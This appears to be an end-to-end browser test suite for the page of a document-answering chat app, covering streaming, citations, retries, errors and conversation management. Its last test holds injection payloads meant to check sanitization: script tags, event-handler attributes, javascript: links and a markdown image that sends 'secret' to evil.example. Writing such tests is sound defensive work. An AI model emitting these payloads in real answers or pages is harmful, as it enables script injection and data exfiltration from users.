/** The page of the chat app: asking, and what is told of an answer. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { refusal } from '../../apps/chat/src/page/testing/fake-chat.ts';
import {
  AFTER,
  BEFORE,
  FIRST,
  PASSAGE,
  type Part,
  wholeAnswer,
  written,
} from '../../apps/chat/src/page/testing/script.ts';
import { assertAccessible, assertFits } from './browser.ts';
import { ask, asked, gate, QUESTION, said, shown, skip } from './chat-page.ts';

test('chat page: an example is asked, the answer is drawn with its table, sources and follow-ups, and nothing complains', {
  skip,
}, async (t) => {
  const { page, chat, complaints } = await shown(t);
  await page.getByRole('button', { name: QUESTION }).click();
  const answer = page.getByRole('article', { name: 'Answer' });
  await answer.getByText('100 euros').waitFor();
  await page.getByRole('list', { name: 'Ask next' }).waitFor();
  assert.equal(await answer.locator('strong').innerText(), '100 euros');
  assert.deepEqual(await answer.locator('td').allInnerTexts(), ['Deposit', '100', 'Cleaning', '452']);
  assert.equal(await answer.locator('td[align=right]').count(), 2);
  assert.deepEqual(await answer.locator('.cite').allInnerTexts(), ['1', '2']);
  assert.equal(await answer.locator('.doubted').innerText(), 'Most guests find this fair.');
  assert.match(await page.getByRole('list', { name: 'Cited sources' }).innerText(), /Guest handbook\s+page 3/);
  assert.deepEqual(chat.asked, [
    { question: QUESTION, conversationId: null, replaces: null, mode: 'chat', overrides: {} },
  ]);
  assert.match(page.url(), /#\/c\/c1$/);
  await page.getByRole('button', { name: 'May I bring my dog?' }).click();
  await page.getByRole('button', { name: 'Copy the answer' }).nth(1).waitFor();
  assert.deepEqual(chat.asked[1]?.conversationId, 'c1');
  assert.deepEqual(complaints, []);
});

test('chat page: text comes as it is written, without half marks, and a citation once it is known', {
  skip,
}, async (t) => {
  const [first, second] = [gate(), gate()];
  const script = (): readonly Part[] => [
    ...BEFORE,
    { type: 'delta', text: 'It is **100 eu' },
    first.part,
    { type: 'delta', text: 'ros**, see [the pri' },
    second.part,
    { type: 'delta', text: 'ces](https://example.com/p). 100 remain.' },
    { type: 'citation', label: 'S2', at: 20 },
  ];
  const { page } = await shown(t, { script });
  await ask(page);
  const prose = page.locator('.prose');
  await prose.locator('strong', { hasText: /^100 eu$/ }).waitFor();
  assert.doesNotMatch(await prose.innerText(), /\*/);
  await page.getByText('Writing…').waitFor();
  const block = await prose.locator('.block').first().elementHandle();
  first.open();
  await prose.locator('strong', { hasText: /^100 euros$/ }).waitFor();
  assert.doesNotMatch(await prose.innerText(), /\[|the pri/);
  second.open();
  const link = prose.getByRole('link', { name: 'the prices' });
  await link.waitFor();
  assert.equal(await link.getAttribute('rel'), 'noopener noreferrer nofollow');
  assert.match(await prose.innerText(), /100 remain/);
  // The same element all along: nothing was taken away and put back.
  assert.equal(await block?.evaluate((element) => element.isConnected), true);
});

test('chat page: stop keeps what was written, and tells the server', { skip }, async (t) => {
  const script = (): readonly Part[] => [...BEFORE, ...written(FIRST), gate().part];
  const { page, chat } = await shown(t, { script });
  await ask(page);
  await said(page, 'within 14 days').waitFor();
  // The page does not wait for the server before it says so.
  const told = page.waitForResponse('**/api/chat/t1/stop');
  await page.getByRole('button', { name: 'Stop the answer' }).click();
  await page.getByText('Stopped. The answer so far is kept.').waitFor();
  assert.match(await page.locator('.prose').innerText(), /within 14 days/);
  await told;
  assert.ok(chat.requests.includes('POST /api/chat/t1/stop'));
  await page.getByRole('button', { name: 'Send' }).waitFor();
});

test('chat page: stays at the end while an answer grows, until somebody scrolls up', { skip }, async (t) => {
  const [more, most] = [gate(), gate()];
  const lines = (from: number) => written(Array.from({ length: 60 }, (_, i) => `line ${from + i}.`).join('\n\n'));
  const script = (): readonly Part[] => [...lines(100), more.part, ...lines(200), most.part, ...lines(300)];
  const { page } = await shown(t, { script });
  await ask(page);
  const inView = (text: string) =>
    said(page, text).evaluate((line) => {
      const { top, bottom } = line.getBoundingClientRect();
      return top >= 0 && bottom <= innerHeight;
    });
  await said(page, 'line 159.').waitFor();
  more.open();
  await said(page, 'line 259.').waitFor();
  await page.waitForFunction(() => {
    const last = [...document.querySelectorAll('.prose .block')].at(-1);
    return last !== undefined && last.getBoundingClientRect().bottom <= innerHeight;
  });
  await page.locator('.scroll').hover();
  await page.mouse.wheel(0, -600);
  const toNewest = page.getByRole('button', { name: 'To the newest' });
  await toNewest.waitFor();
  most.open();
  await said(page, 'line 359.').waitFor();
  assert.equal(await inView('line 359.'), false);
  await toNewest.click();
  await toNewest.waitFor({ state: 'detached' });
});

test('chat page: Escape stops as well', { skip }, async (t) => {
  const { page } = await shown(t, { script: () => [...BEFORE, ...written(FIRST), gate().part] });
  await ask(page);
  await said(page, 'within 14 days').waitFor();
  await page.keyboard.press('Escape');
  await page.getByText('Stopped.').waitFor();
});

test('chat page: a citation opens its passage, marked in the text of its page, beside the way to the original there', {
  skip,
}, async (t) => {
  const { page } = await asked(t);
  const button = page.getByRole('button', { name: 'Source 1' });
  await button.click();
  const panel = page.getByRole('complementary', { name: 'How this was answered' });
  await panel.getByText('House rules of the seaside flats.').waitFor();
  assert.equal(await panel.locator('mark').innerText(), PASSAGE);
  assert.doesNotMatch(await panel.innerText(), /Welcome to Aster|Bins are emptied/);
  const original = panel.getByRole('link', { name: 'Original, page 3' });
  assert.equal(await original.getAttribute('href'), '/content/guests/hand%20book.pdf#page=3');
  await panel.getByRole('button', { name: 'Show the whole document' }).click();
  await panel.getByText('Bins are emptied').waitFor();
  await page.keyboard.press('Escape');
  await panel.waitFor({ state: 'detached' });
  assert.equal(await button.evaluate((element) => element === document.activeElement), true);
});

test('chat page: the panel tells sources, steps, tokens, and what the gateway did', { skip }, async (t) => {
  const { page } = await asked(t);
  await page.getByRole('button', { name: 'How this was answered' }).click();
  const panel = page.getByRole('tabpanel');
  assert.match(await panel.innerText(), /Found by words\..*Guest handbook.*Price list/s);
  await page.getByRole('tab', { name: 'Sources' }).focus();
  for (const _ of ['Passage', 'Steps']) await page.keyboard.press('ArrowRight');
  await panel.getByText('deposit refund').waitFor();
  assert.match(await panel.innerText(), /120.ms.*Tokens read\s+1,204.*Tokens written\s+61/s);
  await page.keyboard.press('ArrowRight');
  const deployments = panel.getByRole('list', { name: 'Deployments' });
  assert.deepEqual(
    (await deployments.innerText())
      .split('\n')
      .filter((line) => line.trim() !== '')
      .slice(0, 4),
    ['openai1/chat', 'throttled (429)', 'openai2/chat', 'answered (200)'],
  );
  assert.match(await panel.innerText(), /Attempts\s+2\s+Waited\s+340.ms.*openai3\/chat\s+throttled until \d/s);
});

test('chat page: the steps show scores, and what the model was asked, folded away and to be copied', {
  skip,
}, async (t) => {
  const { page } = await asked(t);
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.getByRole('button', { name: 'How this was answered' }).click();
  await page.getByRole('tab', { name: 'Steps' }).click();
  const panel = page.getByRole('tabpanel');
  const rows = await panel.getByRole('table').getByRole('row').allInnerTexts();
  assert.deepEqual(
    rows.map((row) => row.split('\t')),
    [
      ['Passage', 'words', 'together'],
      ['S1 Price list for staff', '4.25', '1'],
      ['S2 Guest handbook', '3.5', '0.5'],
    ],
  );
  const prompt = panel.getByRole('listitem').filter({ hasText: 'Prompt for the answer' });
  assert.match(await prompt.innerText(), /Model\s+chat\s+Tokens at most\s+1,024\s+Temperature\s+0\.3/);
  assert.doesNotMatch(await prompt.innerText(), /Seed|Reasoning/);
  await prompt.getByText('Messages that were sent, too: 3').waitFor();
  const text = prompt.locator('pre').last();
  assert.equal(await text.isVisible(), false);
  await prompt.getByText('user', { exact: true }).click();
  assert.match(await text.innerText(), /^<source id="S1">\n.*<\/source>\n\nQuestion: deposit/s);
  await prompt.getByText('1,200 more characters were sent.').waitFor();
  await assertAccessible(page, 'a prompt');
  await prompt.getByRole('button', { name: 'Copy the messages' }).click();
  await page.getByText('Copied').waitFor();
  const copied: unknown = JSON.parse(await page.evaluate(() => navigator.clipboard.readText()));
  assert.deepEqual(copied, [
    { role: 'system', content: 'Say only what these passages say.' },
    { role: 'user', content: await text.textContent() },
  ]);
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme });
    await assertAccessible(page, colorScheme);
  }
  await page.setViewportSize({ width: 360, height: 740 });
  await assertFits(page, 'a prompt on a phone');
  const { wide, shown: room } = await panel.evaluate((body) => ({ wide: body.scrollWidth, shown: body.clientWidth }));
  assert.ok(wide <= room, `${wide} pixels in a panel of ${room}`);
});

test('chat page: a gateway that tells nothing is no trouble', { skip }, async (t) => {
  const script = () => wholeAnswer().filter(({ type }) => type !== 'gateway');
  const { page } = await asked(t, { script });
  assert.equal(await page.locator('.strip').count(), 0);
  await page.getByRole('button', { name: 'How this was answered' }).click();
  await page.getByRole('tab', { name: 'Gateway' }).click();
  await page.getByText('The gateway told nothing of its choice.').waitFor();
});

const FAILURES = [
  ['throttled', 'Too much is being asked just now'],
  ['filtered', 'The content filter stepped in'],
  ['tooLong', 'That is more than the model can read at once'],
  ['gatewayDown', 'The model cannot be reached'],
  ['notAllowed', 'You may not do this'],
  ['timeout', 'The answer did not come in time'],
  ['internal', 'Something went wrong'],
] as const;

test('chat page: each failure has its own plain words, the text so far is kept, what was found can be seen', {
  skip,
}, async (t) => {
  const script = (question: string): readonly Part[] => {
    const kind = FAILURES.find(([name]) => name === question)?.[0] ?? 'internal';
    const text = kind === 'gatewayDown' ? [] : written(FIRST);
    return [...BEFORE, ...text, { type: 'error', kind, message: `Why: ${kind}.`, retryAfterMs: null }];
  };
  const { page, chat, complaints } = await shown(t, { script });
  chat.texts.set('d2', 'Cleaning is 45 euros a stay.');
  for (const [kind, title] of FAILURES) {
    await ask(page, kind);
    const alert = page.getByRole('alert').filter({ hasText: `Why: ${kind}.` });
    await alert.waitFor();
    const told = await alert.innerText();
    assert.ok(told.includes(title), told);
    assert.equal(told.includes('What was written so far is kept.'), kind !== 'gatewayDown');
  }
  const found = page.getByRole('list', { name: 'Passages were found all the same.' });
  assert.equal(await found.count(), 1);
  await found.getByRole('button', { name: /Cleaning is 45 euros/ }).click();
  await page.locator('mark').getByText('Cleaning is 45 euros').waitFor();
  await page
    .getByRole('alert')
    .filter({ hasText: 'filtered' })
    .getByRole('button', { name: 'Show what was found' })
    .click();
  await page.getByRole('tabpanel').getByText('Cleaning is 45 euros').waitFor();
  assert.deepEqual(complaints, []);
});

test('chat page: a 429 that is waited for counts down, and the answer comes', { skip }, async (t) => {
  const wait = gate();
  const script = (): readonly Part[] => [
    ...BEFORE,
    { type: 'waiting', retryAtMs: Date.now() + 42_000 },
    wait.part,
    ...written(FIRST),
  ];
  const { page } = await shown(t, { script });
  await ask(page);
  assert.match(await page.getByRole('timer').innerText(), /sent again by itself in (3\d|4[012]) s, at \d/);
  wait.open();
  await said(page, 'within 14 days').waitFor();
  assert.equal(await page.getByRole('timer').count(), 0);
});

test('chat page: a question refused for now is sent once more by itself, then told plainly', { skip }, async (t) => {
  const busy = { code: 'tooManyQuestions', message: 'You have asked 20 questions this minute.', retryAfterMs: 50 };
  const { page, chat } = await shown(t, { script: () => refusal(429, busy) });
  await ask(page);
  await page.getByRole('alert').getByText('You have asked 20 questions this minute.').waitFor();
  assert.equal(chat.asked.length, 2);
});

test('chat page: a wait that is too long is not begun, but told', { skip }, async (t) => {
  const busy = { code: 'tooManyQuestions', message: 'Come back in a minute.', retryAfterMs: 60_001 };
  const { page, chat } = await shown(t, { script: () => refusal(429, busy) });
  await ask(page);
  await page.getByRole('button', { name: /Try again in (5\d|6[01]) s/ }).waitFor();
  assert.equal(chat.asked.length, 1);
});

test('chat page: what may be tried again only later counts down to it', { skip }, async (t) => {
  const script = (_: string, times: number): readonly Part[] =>
    times > 1 ? wholeAnswer() : [{ type: 'error', kind: 'throttled', message: 'Later.', retryAfterMs: 90_000 }];
  const { page, chat } = await shown(t, { script });
  await page.clock.install();
  await ask(page);
  await page.getByRole('button', { name: /Try again in (90|8\d) s/ }).waitFor();
  await page.clock.fastForward(89_000);
  await page.getByRole('button', { name: /Try again in 1 s|Try again$/ }).waitFor();
  await page.clock.fastForward(1_000);
  await page.getByRole('button', { name: 'Try again', exact: true }).click();
  await said(page, '100 euros').waitFor();
  assert.equal(chat.asked[1]?.replaces, 't1');
});

test('chat page: a connection that breaks is gone on with, and no word is lost or said twice', { skip }, async (t) => {
  const rest = gate();
  const more = [...written(' And more.'), ...AFTER];
  const script = (): readonly Part[] => [...BEFORE, ...written(FIRST), rest.part, { type: 'cut' }, ...more];
  const { page, chat } = await shown(t, { script });
  await ask(page);
  await said(page, 'within 14 days').waitFor();
  rest.open();
  await said(page, 'And more.').waitFor();
  const text = await page.locator('.prose').innerText();
  assert.equal(text, 'The deposit is 100 euros, paid back within 14 days. And more.');
  assert.ok(chat.requests.some((request) => /^GET \/api\/chat\/t1\/stream\?after=\d+$/.test(request)));
});

test('chat page: loaded again in the middle of an answer, it goes on with it', { skip }, async (t) => {
  const rest = gate();
  const script = (): readonly Part[] => [...BEFORE, ...written(FIRST), rest.part, ...written(' And more.')];
  const { page } = await shown(t, { script });
  await ask(page);
  await said(page, 'within 14 days').waitFor();
  await page.reload();
  await said(page, 'within 14 days').waitFor();
  assert.equal(await page.getByRole('heading', { name: QUESTION }).count(), 1);
  await page.getByRole('button', { name: 'Stop the answer' }).waitFor();
  rest.open();
  await said(page, 'And more.').waitFor();
  await page.reload();
  await page.getByRole('button', { name: 'Copy the answer' }).waitFor();
  assert.match(await page.locator('.prose').innerText(), /14 days\. And more\.$/);
});

test('chat page: a question is edited and sent again, or answered anew, and earlier versions can be looked at', {
  skip,
}, async (t) => {
  const script = (question: string): readonly Part[] => written(`You asked: ${question}`);
  const { page, chat } = await asked(t, { script });
  await page.getByRole('button', { name: 'Edit the question' }).click();
  await page.getByRole('textbox', { name: 'Edit the question' }).fill('And for two?');
  await page.keyboard.press('Enter');
  await said(page, 'You asked: And for two?').waitFor();
  assert.equal(chat.asked[1]?.replaces, 't1');
  await page.getByRole('button', { name: 'Answer anew' }).click();
  await page.getByText('3 / 3').waitFor();
  assert.equal(chat.asked[2]?.replaces, 't2');
  for (let i = 0; i < 2; i++) await page.getByRole('button', { name: 'Version before' }).click();
  await said(page, `You asked: ${QUESTION}`).waitFor();
  await page.reload();
  await page.getByText('3 / 3').waitFor();
});

test('chat page: feedback is given with a reason, shown, and taken back', { skip }, async (t) => {
  const { page, chat } = await asked(t);
  await page.getByRole('button', { name: 'Bad answer' }).click();
  await page.getByLabel('In your words').fill('Wrong year.');
  await page.getByRole('dialog').getByRole('button', { name: 'Send' }).click();
  const down = page.getByRole('button', { name: 'Bad answer', pressed: true });
  await down.click();
  await page.getByRole('button', { name: 'Bad answer', pressed: false }).waitFor();
  await page.getByRole('button', { name: 'Good answer' }).click();
  await page.getByRole('button', { name: 'Good answer', pressed: true }).waitFor();
  assert.deepEqual(chat.feedback, [
    { turnId: 't1', liked: false, comment: 'Wrong year.' },
    { turnId: 't1', liked: null, comment: null },
    { turnId: 't1', liked: true, comment: null },
  ]);
});

test('chat page: conversations are found, renamed, pinned, saved and deleted', { skip }, async (t) => {
  const { page, chat } = await asked(t);
  await page.getByRole('button', { name: 'New chat' }).click();
  await ask(page, 'Are pets welcome?');
  await page.getByRole('button', { name: 'Copy the answer' }).waitFor();
  await page.reload();
  const list = page.getByRole('navigation', { name: 'Conversations' });
  await list.getByRole('link', { name: QUESTION }).waitFor();
  await list.getByRole('searchbox').fill('PETS');
  await list.getByRole('link', { name: QUESTION }).waitFor({ state: 'detached' });
  await list.getByLabel('Actions for Are pets welcome?').click();
  await list.getByRole('button', { name: 'Rename' }).click();
  await page.getByRole('textbox', { name: 'New title' }).fill('Pets & dogs');
  await page.keyboard.press('Enter');
  await list.getByRole('link', { name: 'Pets & dogs' }).waitFor();
  assert.equal(chat.conversations.get('c2')?.row.title, 'Pets & dogs');
  await list.getByRole('searchbox').fill('');
  await list.getByLabel('Actions for Pets & dogs').click();
  await list.getByRole('button', { name: 'Pin', exact: true }).click();
  await list.getByRole('heading', { name: 'Pinned' }).waitFor();
  await list.getByLabel('Actions for Pets & dogs').click();
  const saved = page.waitForEvent('download');
  await list.getByRole('link', { name: 'Save as Markdown' }).click();
  assert.equal((await saved).suggestedFilename(), 'conversation.md');
  await list.getByLabel('Actions for Pets & dogs').click();
  await list.getByRole('button', { name: 'Delete', exact: true }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
  await list.getByRole('link', { name: 'Pets & dogs' }).waitFor({ state: 'detached' });
  assert.deepEqual([...chat.conversations.keys()], ['c1']);
  await page.getByRole('heading', { name: 'Aster Lane documents' }).waitFor();
});

test('chat page: what was typed and not sent is still there after a reload', { skip }, async (t) => {
  const { page } = await shown(t);
  await page.getByRole('textbox', { name: 'Your question' }).fill('Half a ques');
  await page.reload();
  const box = page.getByRole('textbox', { name: 'Your question' });
  await box.waitFor();
  assert.equal(await box.inputValue(), 'Half a ques');
  await page.getByRole('button', { name: 'Clear' }).click();
  assert.equal(await box.inputValue(), '');
});

test('chat page: what an answer holds of HTML, pictures and scripts does nothing, and leads nowhere', {
  skip,
}, async (t) => {
  const bad =
    'A <b onclick="steal()">word</b> <img src=x onerror="document.title=1"> <script>document.title=2</script>\n\n![a picture](https://evil.example/?q=secret)\n\n[run](javascript:alert(1)) [data](data:text/html,x) \uE0009\uE001\n\n<iframe src="https://evil.example"></iframe><style>*{display:none}</style>';
  const { page, complaints } = await asked(t, { script: () => [{ type: 'delta', text: bad }] });
  const prose = page.locator('.prose');
  assert.equal(await prose.locator('img, script, iframe, style, b, [onclick], .cite').count(), 0);
  assert.deepEqual(await prose.locator('a[href]').count(), 0);
  assert.match(await prose.innerText(), /a picture/);
  assert.equal(await page.title(), `${QUESTION} – Aster Lane documents`);
  // The policy had nothing to stop.
  assert.deepEqual(complaints, []);
});
